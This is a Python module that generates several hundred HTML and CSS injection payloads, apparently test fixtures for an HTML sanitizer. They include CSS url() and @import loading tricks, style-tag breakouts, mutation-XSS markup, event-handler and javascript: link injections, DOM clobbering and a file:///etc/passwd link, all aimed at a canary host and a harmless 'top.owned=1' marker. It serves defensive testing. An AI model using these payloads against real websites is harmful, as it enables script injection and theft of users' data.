"""Messages that try to run something, to load something, or to get out of their frame: some hundreds, by kinds.

`PAYLOADS` has them by name. All that they would load is at `CANARY`, and whatever they would run sets `owned`.
"""

# ruff: noqa: E501 - a payload is read best in one piece
from __future__ import annotations

from collections.abc import Iterator
from html import escape

CANARY = "http://canary.test"
_U = CANARY + "/x.png"
_RUN = "top.owned=1"


def _words(text: str) -> list[str]:
    return text.split()


# Ways to write an image into a value.
_IMAGES = {
    "url": f"url({_U})",
    "url-in-quotes": f"url('{_U}')",
    "url-in-capitals": f"URL({_U})",
    "url-with-blanks": f"url( \n {_U} \t )",
    "url-without-protocol": "url(//canary.test/x.png)",
    "url-escaped-name": f"u\\72l({_U})",
    "url-escaped-first": f"\\75 rl({_U})",
    "url-escaped-six": f"\\000075rl({_U})",
    "url-escaped-within": "url(http\\3a //canary.test/x.png)",
    "url-broken-line": f"url('{CANARY}/\\\nx.png')",
    "url-comment-before": f"/*x*/url({_U})/*y*/",
    "url-open": f"url({_U}",
    "url-string-open": f"url('{_U}",
    "image-set": f"image-set('{_U}' 1x)",
    "image-set-url": f"image-set(url({_U}) 1x, url({_U}?2) 2x)",
    "webkit-image-set": f"-webkit-image-set(url({_U}) 1x)",
    "image-set-type": f"image-set('{_U}' type('image/png'))",
    "cross-fade": f"cross-fade(url({_U}), url({_U}?b), 50%)",
    "webkit-cross-fade": f"-webkit-cross-fade(url({_U}), url({_U}?b), 50%)",
    "image": f"image('{_U}')",
    "src": f"src('{_U}')",
    "gradient": f"linear-gradient(red, url({_U}))",
    "two-layers": f"linear-gradient(red, blue), url({_U})",
    "var-fallback": f"var(--none, url({_U}))",
    "env-fallback": f"env(none, url({_U}))",
    "attr": f"attr(title type(<url>), url({_U}))",
    "if": f"if(media(all): url({_U}))",
    "light-dark": f"light-dark(url({_U}), url({_U}))",
    "calc": f"calc(1px + url({_U}))",
    "expression": "expression(top.owned=1)",
    "paint": "paint(worklet)",
    "element": "element(#x)",
}
_PROPERTIES = _words(
    "background background-image list-style list-style-image border-image border-image-source content cursor mask"
    " mask-image -webkit-mask -webkit-mask-image -webkit-mask-box-image clip-path filter -webkit-filter backdrop-filter"
    " shape-outside offset-path behavior -moz-binding src background-attachment color --own fill marker"
)
_FEW = ("url", "url-in-quotes", "url-escaped-name", "image-set", "webkit-image-set", "cross-fade", "expression")

_AT_RULES = {
    "import": f"@import '{_U}';",
    "import-url": f"@import url({_U});",
    "import-capitals": f"@IMPORT url({_U}) screen;",
    "import-escaped": f"@\\69mport '{_U}';",
    "import-layer": f"@import url({_U}) layer(x) supports(display: grid);",
    "import-after-charset": f"@charset 'utf-8'; @import '{_U}';",
    "import-late": f"p{{color:red}} @import '{_U}';",
    "import-in-media": f"@media all{{@import '{_U}';}}",
    "import-open": f"@import '{_U}",
    "import-in-comment": f"/**/@import/**/'{_U}'/**/;",
    "import-after-cdo": f"<!-- @import '{_U}'; -->",
    "font-face": f"@font-face{{font-family:f;src:url({_U})}} *{{font-family:f}}",
    "font-face-range": f"@font-face{{font-family:f;src:url({_U});unicode-range:U+0041-005A}} p{{font-family:f}}",
    "font-face-local": f"@font-face{{font-family:f;src:local('x'),url({_U}) format('woff2')}} p{{font:12px f}}",
    "font-face-in-media": f"@media all{{@font-face{{font-family:f;src:url({_U})}}}} p{{font-family:f}}",
    "namespace": f"@namespace url({_U}); @namespace svg '{_U}'; svg|p{{background:url({_U})}}",
    "container": f"@container (width > 1px){{p{{background:url({_U})}}}} body{{container-type:inline-size}}",
    "supports": f"@supports (display:grid){{p{{background:url({_U})}}}}",
    "supports-selector": f"@supports selector(:has(a)){{p{{background:url({_U})}}}}",
    "layer": f"@layer x{{p{{background:url({_U})}}}}",
    "scope": f"@scope (body){{p{{background:url({_U})}}}}",
    "starting-style": f"@starting-style{{p{{background:url({_U})}}}} p{{transition:all 1s}}",
    "keyframes": f"@keyframes k{{from,to{{background:url({_U})}}}} p{{animation:k 1s infinite}}",
    "webkit-keyframes": f"@-webkit-keyframes k{{from{{background-image:url({_U})}}}} p{{-webkit-animation:k 1s}}",
    "property": f"@property --p{{syntax:'<url>';inherits:true;initial-value:url({_U})}} p{{background:var(--p)}}",
    "custom-property": f":root{{--u:url({_U})}} p{{background:var(--u)}}",
    "page": f"@page{{background:url({_U});@top-left{{content:url({_U})}}}}",
    "counter-style": f"@counter-style c{{system:cyclic;symbols:url({_U})}} li{{list-style:c}}",
    "document": f"@document url(http://a){{p{{background:url({_U})}}}} @-moz-document url-prefix(){{p{{background:url({_U})}}}}",
    "view-transition": f"@view-transition{{navigation:auto}} ::view-transition{{background:url({_U})}}",
    "color-profile": f"@color-profile --c{{src:url({_U})}} p{{color:color(--c 1 0 0)}}",
    "unknown": f"@x y{{p{{background:url({_U})}}}}",
    "media": f"@media all{{p{{background:url({_U})}}}}",
    "media-in-media": f"@media all{{@media screen{{@media (min-width:1px){{p{{background:url({_U})}}}}}}}}",
    "media-function": f"@media screen and (min-width: url({_U})){{p{{background:url({_U})}}}}",
    "media-open": f"@media all{{p{{background:url({_U})",
    "nesting": f"p{{& {{background:url({_U})}} &:hover{{background:url({_U})}} .x &{{background:url({_U})}}}}",
    "nested-import": f"p{{@import '{_U}';}}",
    "nested-media": f"p{{@media all{{background:url({_U})}}}}",
    "bad-then-good": f"p{{;;:;}}}}}} ]) p{{background:url({_U})}}",
    "bad-string": f"p{{content:'x\n;background:url({_U})}}",
    "bad-url": f"p{{color:url(x'y);background:url({_U})}}",
    "null": f"p{{back\0ground:u\0rl({_U});background:url({_U})}}",
    "form-feed": f"p{{background:\furl({_U})}}",
}
_SELECTORS = {
    "starts-with": "a[href^='http://s']",
    "contains": "[title*=secret]",
    "ends-with": "[title$='t']",
    "one-of": "[class~=secret]",
    "case": "[title='SECRET' i]",
    "input": "input[value^=a]",
    "visited": "a:visited",
    "link": "a:link",
    "hover": "p:hover",
    "not-hover": "p:not(:hover)",
    "focus": "a:focus",
    "active": "a:active",
    "target": ":target",
    "has": "body:has(a)",
    "is": ":is(p, a)",
    "where": ":where(p)",
    "root": ":root",
    "html": "html",
    "universal": "*",
    "before": "p::before",
    "after": "p:after",
    "first-line": "p::first-line",
    "first-letter": "p::first-letter",
    "marker": "li::marker",
    "selection": "::selection",
    "backdrop": "::backdrop",
    "scrollbar": "::-webkit-scrollbar",
    "placeholder": "::placeholder",
    "part": "::part(x)",
    "slotted": "::slotted(*)",
    "host": ":host, :host-context(body)",
    "namespace": "*|p",
    "nth": "p:nth-child(1 of p)",
    "escaped-class": ".\\73 ecret",
    "escaped-quote": ".a\\22 b, p",
    "sibling": "p + p, p ~ p, p > b",
    "column": "col || td, p",
}
_BREAKOUTS = {
    "plain": f"</style><script>{_RUN}</script>",
    "image": f"</style><img src='{_U}' onerror='{_RUN}'>",
    "in-comment": f"/*</style><script>{_RUN}</script>*/",
    "in-string": f"p{{content:'</style><script>{_RUN}</script>'}}",
    "in-double-string": f'p{{content:"</style><img src={_U} onerror={_RUN}>"}}',
    "in-url": f"p{{background:url('</style><img src={_U} onerror={_RUN}>')}}",
    "in-attribute-selector": f"[title='</style><img src={_U} onerror={_RUN}>']{{color:red}}",
    "in-class": ".\\3c \\2f style\\3e \\3c script\\3e top\\.owned\\=1{color:red} .a\\</style\\>{color:red}",
    "in-font": f"p{{font-family:'</style><script>{_RUN}</script>'}}",
    "escaped-string": "p{content:'\\3c/style\\3e\\3cscript\\3etop.owned=1\\3c/script\\3e'}",
    "escaped-identifier": "p{font-family:\\3c\\2fstyle\\3e\\3cimg\\20src\\3dx\\20onerror\\3dtop\\2eowned\\3d1\\3e}",
    "in-media": f"@media all and (min-width:1px) and (x:'</style><script>{_RUN}</script>'){{p{{color:red}}}}",
    "capitals": f"</STYLE ><SCRIPT>{_RUN}</SCRIPT>",
    "slash": f"</style/><script>{_RUN}</script>",
    "cdata": f"<![CDATA[</style><script>{_RUN}</script>]]>",
    "comment-open": f"<!--</style><script>{_RUN}</script>-->",
    "style-in-style": f"<style></style><script>{_RUN}</script></style>",
    "json": '{"</style><script>top.owned=1</script>":1}',
}
_MUTATIONS = {
    "math-style": f"<math><mtext><table><mglyph><style><img src='{_U}' onerror='{_RUN}'></style></mglyph></table></mtext></math>",
    "form-math": f"<form><math><mtext></form><form><mglyph><style></math><img src='{_U}' onerror='{_RUN}'>",
    "svg-style": f"<svg></p><style><a id='</style><img src={_U} onerror={_RUN}>'>",
    "svg-style-comment": f"<svg><style><!--</style><img src='{_U}' onerror='{_RUN}'>--></style></svg>",
    "noscript": f"<noscript><p title='</noscript><img src={_U} onerror={_RUN}>'></noscript>",
    "noscript-style": f"<noscript><style></noscript><img src='{_U}' onerror='{_RUN}'></style>",
    "annotation": f"<math><annotation-xml encoding='text/html'><style><img src='{_U}' onerror='{_RUN}'></style></annotation-xml></math>",
    "foreign-object": f"<svg><foreignObject><style><a title='</style><img src={_U} onerror={_RUN}>'></style></foreignObject></svg>",
    "desc": f"<svg><desc><noscript><a title='</noscript></desc></svg><img src={_U} onerror={_RUN}>'></noscript></desc></svg>",
    "title": f"<svg><title><style><a title='</style></title></svg><img src={_U} onerror={_RUN}>'></style></title></svg>",
    "template": f"<template><style><a title='</style></template><img src={_U} onerror={_RUN}>'></style></template>",
    "textarea": f"<textarea><p title='</textarea><img src={_U} onerror={_RUN}>'></textarea>",
    "xmp": f"<xmp><p title='</xmp><img src={_U} onerror={_RUN}>'></xmp>",
    "noembed": f"<noembed><p title='</noembed><img src={_U} onerror={_RUN}>'></noembed>",
    "noframes": f"<noframes><p title='</noframes><img src={_U} onerror={_RUN}>'></noframes>",
    "iframe": f"<iframe><p title='</iframe><img src={_U} onerror={_RUN}>'></iframe>",
    "plaintext": f"<plaintext><img src='{_U}' onerror='{_RUN}'>",
    "listing": f"<listing>&lt;img src='{_U}' onerror='{_RUN}'&gt;</listing>",
    "select": f"<select><style></select><img src='{_U}' onerror='{_RUN}'></style></select>",
    "table": f"<table><style><tr><img src='{_U}' onerror='{_RUN}'></style></table>",
    "comment": f"<!--><img src='{_U}' onerror='{_RUN}'>-->",
    "comment-dash": f"<!--- ><img src='{_U}' onerror='{_RUN}'> -->",
    "comment-bang": f"<!-- --!><img src='{_U}' onerror='{_RUN}'> -->",
    "processing": f"<?xml <img src='{_U}' onerror='{_RUN}'> ?>",
    "declaration": f"<!x <img src='{_U}' onerror='{_RUN}'>>",
    "cdata": f"<svg><![CDATA[<img src='{_U}' onerror='{_RUN}'>]]></svg>",
    "conditional": f"<!--[if IE]><script>{_RUN}</script><![endif]--><!--[if !mso]><!--><script>{_RUN}</script><!--<![endif]-->",
    "attribute": f"<p title=\"<style>@import '{_U}';</style><script>{_RUN}</script>\">x</p>",
    "attribute-like": '<p title=\'" onmouseover=top.owned=1 style="position:fixed;inset:0" x="\'>x</p>',
    "attribute-tag": f"<p title='<img src=\"{_U}\">'>x</p><p class='\"><img src={_U} onerror={_RUN}>'>y</p>",
    "attribute-name": f"<p <img src='{_U}' onerror='{_RUN}'>>x</p>",
    "id": f"<p id='\"><img src={_U} onerror={_RUN}>'>x</p>",
    "entity": f"<p title='&quot;&gt;&lt;img src={_U} onerror={_RUN}&gt;'>x</p>",
    "long-reference": f"<p title='&#{'9' * 5000};'>x</p><img src='{_U}' onerror='{_RUN}'>",
    "nested-tags": f"<scr<script>ipt>{_RUN}</scr</script>ipt><<img src='{_U}' onerror='{_RUN}'>",
    "null-in-tag": f"<scr\0ipt>{_RUN}</scr\0ipt><im\0g src='{_U}'>",
    "slashes": f"<img/src='{_U}'/onerror='{_RUN}'/>",
    "deep": "<div>" * 600 + f"<img src='{_U}' onerror='{_RUN}'>",
    "shadow": f"<div><template shadowrootmode=open><style>@import '{_U}';</style><img src='{_U}' onerror='{_RUN}'></template></div>",
    "body-twice": f"<body class=a><body onload='{_RUN}' style='background:url({_U})' background='{_U}'>",
    "body-quote": f"<body class='\"><script>{_RUN}</script>' id='\"><img src={_U} onerror={_RUN}>' dir='\" onload=\"{_RUN}'>x",
    "html-quote": f"<html class='\"><script>{_RUN}</script>' lang='\" onclick=\"{_RUN}'><body>x",
    "body-open": f'<body style="background:url({_U}) <p>x</p><script>{_RUN}</script>',
    "body-text": f"<body text='\"><script>{_RUN}</script>' bgcolor='red;background:url({_U})' link='x\" y'>x",
    "meta-scheme": f"<meta name=color-scheme content='dark\"><script>{_RUN}</script>'>x",
    "media-attribute": f"<style media='all\"><script>{_RUN}</script>'>p{{color:red}}</style><p>x</p>",
    "media-attribute-style": f"<style media=\"all){{}} @import '{_U}';\">p{{color:red}}</style><p>x</p>",
    "type-attribute": f"<style type='text/less'>@import '{_U}';p{{background:url({_U})}}</style><p>x</p>",
}
_ELEMENTS = {
    "script": f"<script>{_RUN}</script>",
    "script-source": f"<script src='{CANARY}/x.js'></script>",
    "script-module": f"<script type=module>import '{CANARY}/x.js'</script>",
    "import-map": f'<script type=importmap>{{"imports":{{"x":"{CANARY}/x.js"}}}}</script>',
    "speculation": f'<script type=speculationrules>{{"prerender":[{{"urls":["{CANARY}/x"]}}]}}</script>',
    "iframe": f"<iframe src='{CANARY}/x'></iframe>",
    "iframe-javascript": f"<iframe src='javascript:{_RUN}'></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>{_RUN}</script><img src={_U}>'></iframe>",
    "frameset": f"<frameset><frame src='{CANARY}/x'></frameset>",
    "object": f"<object data='{CANARY}/x.swf'><img src='{_U}'></object>",
    "object-param": f"<object type='text/x-scriptlet'><param name=url value='{CANARY}/x'></object>",
    "embed": f"<embed src='{CANARY}/x.svg'>",
    "applet": f"<applet code=x archive='{CANARY}/x.jar'></applet>",
    "portal": f"<portal src='{CANARY}/x'></portal><fencedframe src='{CANARY}/x'></fencedframe>",
    "base": f"<base href='{CANARY}/'><img src='x.png'><a href='y'>y</a>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={CANARY}/x'>",
    "meta-refresh-script": f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "meta-cookie": "<meta http-equiv=set-cookie content='owned=1'>",
    "link-sheet": f"<link rel=stylesheet href='{CANARY}/x.css'>",
    "link-alternate": f"<link rel='alternate stylesheet' title=x href='{CANARY}/x.css'>",
    "link-prefetch": f"<link rel=prefetch href='{CANARY}/x'><link rel=prerender href='{CANARY}/x'>",
    "link-preload": f"<link rel=preload as=image href='{_U}'><link rel=modulepreload href='{CANARY}/x.js'>",
    "link-dns": f"<link rel=dns-prefetch href='{CANARY}'><link rel=preconnect href='{CANARY}'>",
    "link-icon": f"<link rel=icon href='{CANARY}/favicon.ico'><link rel=manifest href='{CANARY}/m.json'>",
    "form": f"<form action='{CANARY}/x'><input name=a autofocus onfocus='{_RUN}'><button>x</button></form>",
    "form-action": f"<form><button formaction='javascript:{_RUN}'>x</button><input type=image src='{_U}'></form>",
    "input-image": f"<input type=image src='{_U}'>",
    "isindex": f"<isindex action='javascript:{_RUN}' type=image src='{_U}'>",
    "video": f"<video src='{CANARY}/x.mp4' poster='{_U}' autoplay onloadstart='{_RUN}'></video>",
    "audio": f"<audio src='{CANARY}/x.mp3' autoplay onerror='{_RUN}'></audio>",
    "source": f"<video><source src='{CANARY}/x.mp4' onerror='{_RUN}'><track src='{CANARY}/x.vtt'></video>",
    "picture": f"<picture><source srcset='{_U}?p'><img alt=x></picture>",
    "srcset": f"<img srcset='{_U}?s 1x, {_U}?t 2x' alt=x>",
    "lowsrc": f"<img lowsrc='{_U}' dynsrc='{_U}' longdesc='{_U}' usemap='{_U}' alt=x>",
    "image-element": f"<image src='{_U}?i' onerror='{_RUN}'>",
    "svg-image": f"<svg><image href='{_U}'/><image xlink:href='{_U}'/></svg>",
    "svg-use": f"<svg><use href='{CANARY}/x.svg#a'/></svg>",
    "svg-script": f"<svg><script>{_RUN}</script><script href='{CANARY}/x.js'/></svg>",
    "svg-onload": f"<svg onload='{_RUN}'><animate onbegin='{_RUN}' attributeName=x dur=1s></svg>",
    "svg-animate": f"<svg><a><animate attributeName=href values='javascript:{_RUN}'/><text>x</text></a></svg>",
    "svg-filter": f"<svg><filter><feImage href='{_U}'/></filter><rect fill='url({_U}#a)' filter='url({_U}#b)'/></svg>",
    "svg-style": f"<svg><style>@import '{_U}';*{{background:url({_U})}}</style></svg>",
    "math-href": f"<math href='javascript:{_RUN}'><mi xlink:href='{CANARY}/x'>x</mi></math>",
    "table-background": f"<table background='{_U}?t'><tr background='{_U}?r'><td background='{_U}?d'>x</table>",
    "body-background": f"<body background='{_U}?b' onload='{_RUN}' onpageshow='{_RUN}'>x</body>",
    "bgsound": f"<bgsound src='{CANARY}/x.mp3'>",
    "marquee": f"<marquee onstart='{_RUN}' behavior=alternate>x</marquee>",
    "details": f"<details open ontoggle='{_RUN}'><summary>x</summary></details>",
    "dialog": f"<dialog open onclose='{_RUN}'>x</dialog>",
    "ping": f"<a href='http://a.test/' ping='{CANARY}/x' attributionsrc='{CANARY}/x'>x</a>",
    "cite": f"<blockquote cite='{CANARY}/x'>x</blockquote><q cite='{CANARY}/x'>x</q>",
    "manifest": f"<html manifest='{CANARY}/x.appcache'><body>x",
    "image-plain": f"<img src='{_U}?1'>",
    "image-no-protocol": "<img src='//canary.test/x.png?2'>",
    "image-backslashes": "<img src='\\\\canary.test/x.png'>",
    "image-tabs": "<img src='ht\ttp://canary.test/x.png?3'>",
    "image-control": f"<img src='\x01{_U}?4'>",
    "image-javascript": f"<img src='javascript:{_RUN}'>",
    "image-svg": '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.owned=1"/>\'>',
    "image-blob": "<img src='blob:http://canary.test/x'><img src='filesystem:http://canary.test/x'>",
    "image-relative": "<img src='/static/app.js'><img src='../../login'><img src='?images=1'>",
    "clobber-images": "<img name=images><img name=documentElement id=body><a id=images name=images>x</a>",
    "clobber-form": "<form name=contentDocument id=top><input name=owned value=1></form><a id=owned></a>",
    "clobber-csrf": "<meta name=csrf-token content=x><a id=csrf-token name=csrf-token href='tel:1'>x</a>",
    "is": f"<p is=x-y slot=a part=b contenteditable onpaste='{_RUN}' autofocus tabindex=1 onfocus='{_RUN}'>x</p>",
    "popover": f"<div popover id=x onbeforetoggle='{_RUN}'>x</div><button popovertarget=x>y</button>",
    "keygen": f"<keygen autofocus onfocus='{_RUN}'><menuitem onclick='{_RUN}'>",
    "xss-handler-case": f"<IMG SRC='{_U}?5' oNeRrOr='{_RUN}'>",
    "access-key": f"<a accesskey=x onclick='{_RUN}' href='#' style='position:fixed;inset:0;z-index:9'>x</a>",
}
_HANDLERS = _words(
    "onload onerror onclick onmouseover onfocus onfocusin onanimationstart onanimationend ontransitionend onscroll"
    " onpointerenter onpointerrawupdate onbeforeinput oncontentvisibilityautostatechange onscrollend ontouchstart"
)
_LINKS = {
    "javascript": f"javascript:{_RUN}",
    "capitals": f"JaVaScRiPt:{_RUN}",
    "tab": f"java\tscript:{_RUN}",
    "reference": f"java&#9;script:{_RUN}",
    "entity": f"javascript&colon;{_RUN}",
    "control": f"\x01javascript:{_RUN}",
    "vbscript": "vbscript:msgbox(1)",
    "data": f"data:text/html,<script>{_RUN}</script>",
    "file": "file:///etc/passwd",
    "view-source": "view-source:http://a.test/",
    "relative": "/logout",
    "unicode": f"\u3000javascript:{_RUN}",
    "fragment-quote": '#"><script>top.owned=1</script>',
}


def _declarations() -> Iterator[tuple[str, str]]:
    for name, image in _IMAGES.items():
        properties = _PROPERTIES if name in _FEW else ("background", "content", "list-style-image")
        for property_name in properties:
            yield f"{property_name} {name}", f"{property_name}:{image}"


def _styles() -> Iterator[tuple[str, str]]:
    for number, (name, style) in enumerate(_declarations()):
        own = f"n{number}"
        yield f"attribute {name}", f'<p style="{escape(style)}">x</p><ul><li style="{escape(style)}">y</ul>'
        yield f"sheet {name}", f"<style>.{own}{{{style}}}</style><p class={own}>x</p><ul><li class={own}>y</ul>"
    for name, rule in _AT_RULES.items():
        yield f"rule {name}", f"<style>{rule}</style><p>x</p><ul><li>y</ul>"
        yield f"rule in body {name}", f"<body><div><style type='text/css'>{rule}</style><p>x</p></div></body>"
    for name, selector in _SELECTORS.items():
        sheet = f"<style>{selector}{{background:url({_U});content:url({_U}?c)}}</style>"
        yield (
            f"selector {name}",
            f"{sheet}<p title=secret class=secret>x</p><a href='http://s.test/'>z</a><input value=abc><ul><li>y</ul>",
        )
    for name, text in _BREAKOUTS.items():
        yield f"breakout {name}", f"<style>{text}</style><p>x</p>"
        yield f"breakout in attribute {name}", f'<p style="{escape(text)}">x</p>'


def _markup() -> Iterator[tuple[str, str]]:
    yield from ((f"mutation {name}", text) for name, text in _MUTATIONS.items())
    yield from ((f"element {name}", text) for name, text in _ELEMENTS.items())
    for handler in _HANDLERS:
        yield (
            f"handler {handler}",
            f"<p {handler}='{_RUN}' style='animation:x 1s;width:9px'>x</p><img src=x {handler}='{_RUN}'>",
        )
    yield from ((f"link {name}", f'<a href="{target}">x</a>') for name, target in _LINKS.items())


PAYLOADS = {**dict(_styles()), **dict(_markup())}


def bundled(size: int = 12) -> dict[str, str]:
    """The payloads as messages: those that concern an element of their own alone, some in one."""
    names = {kind: [name for name in PAYLOADS if name.startswith(kind)] for kind in ("attribute ", "sheet ")}
    messages = {name: html for name, html in PAYLOADS.items() if not any(name in found for found in names.values())}
    for found in names.values():
        for start in range(0, len(found), size):
            some = found[start : start + size]
            messages[f"{some[0]} to {some[-1]}"] = "".join(PAYLOADS[name] for name in some)
    return messages
